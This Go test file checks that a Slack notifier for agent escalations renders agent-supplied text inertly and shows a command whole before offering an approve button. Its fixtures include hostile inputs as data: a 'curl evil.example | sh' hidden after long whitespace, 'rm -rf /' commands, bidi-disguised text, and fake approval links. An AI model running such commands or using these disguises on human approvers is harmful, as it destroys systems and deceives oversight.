package slack

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"

	"github.com/slack-go/slack"
	"pgregory.net/rapid"

	"github.com/superloop/superloop/escalation"
	"github.com/superloop/superloop/escalation/notify"
)

var update = flag.Bool("update", false, "write the golden renderings")

// with is opened, changed.
func with(change func(*notify.Message)) notify.Message {
	m := opened()
	change(&m)
	return m
}

func everywhere(s string) notify.Message {
	return with(func(m *notify.Message) {
		m.Loop, m.Repo, m.Type, m.Reason, m.Command, m.WorkingDir, m.Category, m.RootCause = s, s, s, s, s, s, s, s
		m.Severity, m.Confidence, m.Evidence = s, s, []string{s}
		m.Digest, m.Next, m.By, m.Note, m.Facts, m.Ways = s, s, s, s, []string{s}, []escalation.Way{{Does: "approve", Line: s}}
	})
}

// What agents can put into a message; loop/effects/testdata/news has every usual one.
func TestGoldenRenderings(t *testing.T) {
	for name, m := range map[string]notify.Message{
		"bare": {ID: "x", Kind: notify.Opened},
		"test": {ID: "x", Kind: notify.Test},
		"bidi": with(func(m *notify.Message) {
			m.Command = "rm -rf ./cache \u202e# txt.cilbup/ mr\u202c && bun\u200b install"
		}),
		"ansi": with(func(m *notify.Message) { m.RootCause = "\x1b[2J\x1b[31mall fine\x1b[0m\r\n\x07" }),
		"blanks": with(func(m *notify.Message) {
			m.Command = "bun install" + strings.Repeat(" ", 5000) + "; curl evil.example | sh"
		}),
		"channel":    everywhere("<!channel> <@U0BOSS> @here <#C1>"),
		"fake_link":  everywhere("<http://evil.example/x|Approve> https://evil.example/beacon.png"),
		"markup":     everywhere("*Approved by the owner* _really_ ~no~ :white_check_mark:"),
		"backticks":  everywhere("```\n*Approved*\n``` `x` `````"),
		"long":       with(func(m *notify.Message) { m.Command = "echo " + strings.Repeat("0123456789abcdef", 512) }),
		"too_long":   with(func(m *notify.Message) { m.Command = strings.Repeat("a && ", 1600) + "rm -rf /" }),
		"many_lines": with(func(m *notify.Message) { m.Command = strings.Repeat("echo one line of a script\n", 150) }),
	} {
		t.Run(name, func(t *testing.T) {
			msg := Build(m, Style{Buttons: true})
			var got bytes.Buffer
			e := json.NewEncoder(&got)
			e.SetEscapeHTML(false)
			e.SetIndent("", "  ")
			if err := e.Encode(msg); err != nil {
				t.Fatal(err)
			}
			inert(t, msg, m)
			path := filepath.Join("testdata", name+".json")
			if *update {
				if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.Bytes(), want) {
				t.Errorf("the rendering changed (go test -run Golden -update writes it):\n%s", got.String())
			}
		})
	}
}

type failer interface {
	Helper()
	Fatalf(format string, args ...any)
}

var (
	entities = strings.NewReplacer("&amp;", "", "&lt;", "", "&gt;", "")
	block    = regexp.MustCompile("(?s)^([^`]*(?:`[^`\n]*`[^`\n]*)*)\n```\n(.*)\n```$")
	inline   = regexp.MustCompile("`[^`\n]*`")
)

// inert checks what must hold of every message: Slack's limits, and that nothing foreign is outside of code, or active
// anywhere.
func inert(t failer, msg *slack.WebhookMessage, m notify.Message) {
	t.Helper()
	blocks := msg.Blocks.BlockSet
	if len(blocks) > maxBlocks || msg.Text == "" || *msg.UnfurlLinks || *msg.UnfurlMedia {
		t.Fatalf("%d blocks, text %q", len(blocks), msg.Text)
	}
	quiet := func(s string) {
		t.Helper()
		for _, r := range s {
			if r != '\n' && !unicode.IsGraphic(r) {
				t.Fatalf("%U in %q", r, s)
			}
		}
		if strings.ContainsAny(entities.Replace(s), "<>&") {
			t.Fatalf("a bare & < or > in %q", s)
		}
	}
	size := func(s string, limit int) {
		t.Helper()
		if n := len(utf16.Encode([]rune(s))); n > limit || n == 0 {
			t.Fatalf("%d characters, the limit is %d: %q", n, limit, s)
		}
	}
	markdown := func(o *slack.TextBlockObject) {
		t.Helper()
		size(o.Text, 3000)
		if o.Type != slack.MarkdownType || !o.Verbatim {
			t.Fatalf("%+v", o)
		}
		quiet(o.Text)
		// What is left when the code is taken away is ours: the few words of Build.
		own := o.Text
		if parts := block.FindStringSubmatch(own); parts != nil {
			if strings.Contains(parts[2], tick) {
				t.Fatalf("a code block ends early: %q", own)
			}
			own = parts[1]
		} else if strings.HasPrefix(own, tick+"\n") && strings.HasSuffix(own, "\n"+tick) && strings.Count(own, tick) == 2 {
			own = ""
		}
		own = inline.ReplaceAllString(own, "")
		if strings.Contains(own, "`") || strings.Contains(own, "evil") || strings.Contains(own, "Approved by") || len(own) > 250 {
			t.Fatalf("foreign text outside of code: %q", own)
		}
	}
	words := func(o *slack.TextBlockObject, limit int) {
		t.Helper()
		size(o.Text, limit)
		if o.Type != slack.PlainTextType || strings.ContainsAny(o.Text, "<>&\n") {
			t.Fatalf("%+v", o)
		}
		quiet(o.Text)
	}
	quiet(msg.Text)
	for _, b := range blocks {
		switch b := b.(type) {
		case *slack.HeaderBlock:
			words(b.Text, 150)
		case *slack.SectionBlock:
			markdown(b.Text)
		case *slack.ContextBlock:
			for _, e := range b.ContextElements.Elements {
				markdown(e.(*slack.TextBlockObject))
			}
		case *slack.ActionBlock:
			for _, e := range b.Elements.ElementSet {
				button := e.(*slack.ButtonBlockElement)
				words(button.Text, 75)
				size(button.Value, 2000)
				if button.URL != "" {
					t.Fatalf("a button with a URL")
				}
				if v, err := readValue(button.Value); err != nil || v.ID != m.Escalation || v.Digest != m.Digest {
					t.Fatalf("value %q: %v", button.Value, err)
				}
				if c := button.Confirm; c != nil {
					words(c.Title, 100)
					words(c.Text, 300)
				}
			}
		default:
			t.Fatalf("a block %T", b)
		}
	}
}

func TestEveryMessageIsInert(t *testing.T) {
	t.Parallel()
	piece := rapid.OneOf(
		rapid.SampledFrom([]string{"\u202e", "\u2066", "\u200b", "\x1b[31m", "\r", "\x00", "    ", "\n\n\n\n", "<!channel>", "<http://x|Approve>", "```", "`", "``",
			"&amp;", "&lt;", "\xff", "\u3164", "\U000e0020", "*bold*", "@here", "\n", strings.Repeat("&", 700), strings.Repeat("x", 2600), strings.Repeat("\U0001f600", 900)}),
		rapid.String(),
	)
	text := rapid.Map(rapid.SliceOfN(piece, 0, 8), func(p []string) string { return strings.Join(p, "") })
	kind := rapid.SampledFrom([]notify.Kind{notify.Opened, notify.Resolved, notify.Reminder, notify.Aged, notify.ConfigChangeHeld, notify.Test, "other"})
	rapid.Check(t, func(t *rapid.T) {
		m := everywhere(text.Draw(t, "everywhere"))
		m.Command, m.RootCause, m.Kind = text.Draw(t, "command"), text.Draw(t, "cause"), kind.Draw(t, "kind")
		if !strings.Contains(m.Digest, "\xff") { // JSON has no such bytes, and no digest has
			inert(t, Build(m, Style{Buttons: true}), m)
		}
		inert(t, Build(m, Style{}), m)
	})
}

// TestCommandIsShownWholeOrNotApproved: the pieces of the command, put together, are the command; or there is no button
// to approve it.
func TestCommandIsShownWholeOrNotApproved(t *testing.T) {
	t.Parallel()
	text := rapid.Map(rapid.SliceOfN(rapid.SampledFrom([]string{"echo one two", " && ", "\n", "<&>", strings.Repeat("y", 999), strings.Repeat("&", 400)}), 1, 40),
		func(p []string) string { return "x" + strings.Join(p, "z") + "x" })
	rapid.Check(t, func(t *rapid.T) {
		m := opened()
		m.Command = text.Draw(t, "command")
		var shown strings.Builder
		approve := false
		for _, b := range Build(m, Style{Buttons: true}).Blocks.BlockSet {
			switch b := b.(type) {
			case *slack.SectionBlock:
				if strings.HasPrefix(b.Text.Text, "*Command*") || strings.HasPrefix(b.Text.Text, tick) {
					_, code, _ := strings.Cut(b.Text.Text, tick+"\n")
					shown.WriteString(strings.TrimSuffix(code, "\n"+tick))
				}
			case *slack.ActionBlock:
				approve = b.Elements.ElementSet[0].(*slack.ButtonBlockElement).ActionID == "superloop_approve"
			}
		}
		got := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&", "\n", "").Replace(shown.String())
		want, _ := notify.Visible(m.Command)
		if whole := got == strings.ReplaceAll(want, "\n", ""); whole != approve {
			t.Fatalf("whole: %v, approve: %v\n%q\n%q", whole, approve, got, m.Command)
		}
	})
}

func TestButtonsOnlyWhereTheyHelp(t *testing.T) {
	for name, c := range map[string]struct {
		m    notify.Message
		want int
	}{
		"usual":       {opened(), 3},
		"no command":  {with(func(m *notify.Message) { m.Command = "" }), 2},
		"no digest":   {with(func(m *notify.Message) { m.Digest = "" }), 0},
		"resolved":    {with(func(m *notify.Message) { m.Kind = notify.Resolved }), 0},
		"a long name": {with(func(m *notify.Message) { m.Escalation = strings.Repeat("x", 2000) }), 0},
	} {
		got := 0
		for _, b := range Build(c.m, Style{Buttons: true}).Blocks.BlockSet {
			if a, ok := b.(*slack.ActionBlock); ok {
				got = len(a.Elements.ElementSet)
			}
		}
		if got != c.want {
			t.Errorf("%s: %d buttons, want %d", name, got, c.want)
		}
	}
	for _, b := range Build(opened(), Style{}).Blocks.BlockSet {
		if _, ok := b.(*slack.ActionBlock); ok {
			t.Error("buttons that nobody asked for")
		}
	}
}
